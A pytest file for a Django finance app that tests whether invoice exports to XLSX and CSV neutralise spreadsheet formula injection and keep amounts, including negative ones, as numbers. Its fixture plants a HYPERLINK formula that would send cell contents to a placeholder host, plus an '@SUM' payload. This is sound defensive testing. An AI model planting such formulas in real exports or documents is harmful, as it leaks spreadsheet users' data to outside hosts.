"""Exports that parties open in Excel: text that would run as a formula is neutralised, amounts (negative
ones too) stay numbers."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from finance.services import invoice_credit, invoice_issue, invoice_recharge_create

D = Decimal
pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://example.org/?x="&A1,"Klicka")'


@pytest.fixture
def are_client(gns, rep_of):
    invoice = invoice_recharge_create(
        committee=gns.committee,
        party=gns["2321"],
        description=FORMULA,
        amount=D("500.00"),
        incurred_on=dt.date(2020, 1, 31),
        document="@SUM(1+1)",
        invoice_date=dt.date(2020, 2, 1),
        due_date=dt.date(2020, 3, 1),
    )
    invoice_credit(invoice=invoice_issue(invoice=invoice), reason="-felaktig", credit_date=dt.date(2020, 2, 5))
    client = Client()
    client.force_login(rep_of(gns["2321"]))
    return client


def test_xlsx_cells_are_text_not_formulas_and_amounts_numbers(are_client):
    response = are_client.get(reverse("party:export_xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)  # no formula anywhere
    titles = [row[5].value for row in rows]
    assert "'" + FORMULA in titles
    amounts = sorted(row[14].value for row in rows)
    assert amounts == [-500, 500] and all(row[14].data_type == "n" for row in rows)


def test_csv_neutralises_formula_text_and_keeps_negative_amounts_numeric(are_client):
    response = are_client.get(reverse("party:export_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))[1:]
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert "'" + FORMULA in cells
    assert "'@SUM(1+1)" not in cells  # the document text is inside the line text, which starts with a letter
    assert sorted(row[14] for row in rows) == ["-500,00", "500,00"]  # numbers, Swedish decimal comma
